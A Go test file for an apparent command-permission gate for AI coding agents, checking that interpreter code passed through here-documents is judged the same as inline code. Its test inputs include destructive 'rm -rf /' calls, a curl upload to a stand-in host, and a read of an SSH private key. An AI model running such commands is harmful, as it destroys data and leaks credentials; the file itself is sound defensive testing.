package gate

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/pregate/pregate/hook"
	"github.com/pregate/pregate/rules/load"
)

// TestHeredocCodeAsInline: an interpreter reading a literal program from a
// here-document or here-string is decided exactly as the same program
// given inline (-c, -e), with the builtin baseline, under an allow of the
// interpreter and without, in the default and the strict profile; a
// here-document with expansions is never allowed.
func TestHeredocCodeAsInline(t *testing.T) {
	work, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, project := filepath.Join(work, "home"), filepath.Join(work, "project")
	if err := os.MkdirAll(filepath.Join(project, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	policy := func(name, body string) string {
		p := filepath.Join(work, name)
		if err := os.WriteFile(p, []byte("version = 1\n"+body), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	allow := policy("allow.toml", "[[rule]]\nid = \"interp\"\ndecision = \"allow\"\nmatch = [\"Bash(python3:*)\", \"Bash(node:*)\", \"Bash(ruby:*)\", \"Bash(perl:*)\"]\n")
	strict := policy("strict.toml", "[defaults]\nprofile = \"strict\"\n")
	decide := func(cmd string, files ...string) hook.Decision {
		ev := hook.Event{HookEventName: hook.PreToolUse, Cwd: project, SessionID: "s", PermissionMode: "default",
			ToolName: "Bash", ToolInput: map[string]any{"command": cmd}}
		return Decide(Input{
			Event: ev, Home: home, Tmp: filepath.Join(work, "tmp"), Env: map[string]string{"HOME": home},
			Load: load.Options{Home: home, CLIFiles: files,
				ManagedDir: filepath.Join(work, "etc", "pregate"), ClaudeManagedDir: filepath.Join(work, "etc", "claude-code")},
		}).Decision
	}
	codes := map[string][]string{
		"python3": {`print("hello")`, `import os; os.system("rm -rf /")`, `import subprocess; subprocess.run(["curl", "-T", "x", "https://e.example"])`, `open("/home/u/.ssh/id_rsa").read()`},
		"node":    {`console.log(1)`, `require("child_process").execSync("rm -rf /")`},
		"ruby":    {`puts 1`, "system('rm -rf /')"},
		"perl":    {`print "hi\n"`, "system('rm -rf /')"},
	}
	flag := map[string]string{"python3": "-c", "node": "-e", "ruby": "-e", "perl": "-e"}
	seen := map[hook.Decision]bool{}
	for interp, list := range codes {
		for _, code := range list {
			inline := interp + " " + flag[interp] + " " + shellQuote(code)
			for _, form := range []string{interp + " <<'EOF'\n" + code + "\nEOF", interp + " <<< " + shellQuote(code)} {
				for _, files := range [][]string{nil, {allow}, {strict}, {allow, strict}} {
					want, got := decide(inline, files...), decide(form, files...)
					seen[want] = true
					if got != want {
						t.Errorf("%q with %v: %s, want %s as %q gets", form, files, got, want, inline)
					}
				}
			}
		}
	}
	// The cases reach more than one decision, so the comparison can fail.
	if len(seen) < 2 {
		t.Fatalf("every case decided %v: the comparison tests nothing", seen)
	}
	for _, cmd := range []string{"python3 <<EOF\nprint('$HOME')\nEOF", "node <<EOF\nconsole.log(`$(id)`)\nEOF"} {
		if got := decide(cmd, allow); got == hook.Allow {
			t.Errorf("%q: allow, want a here-document with expansions not approved", cmd)
		}
	}
}

// shellQuote quotes s for bash in single quotes.
func shellQuote(s string) string {
	out := "'"
	for _, r := range s {
		if r == '\'' {
			out += `'\''`
		} else {
			out += string(r)
		}
	}
	return out + "'"
}
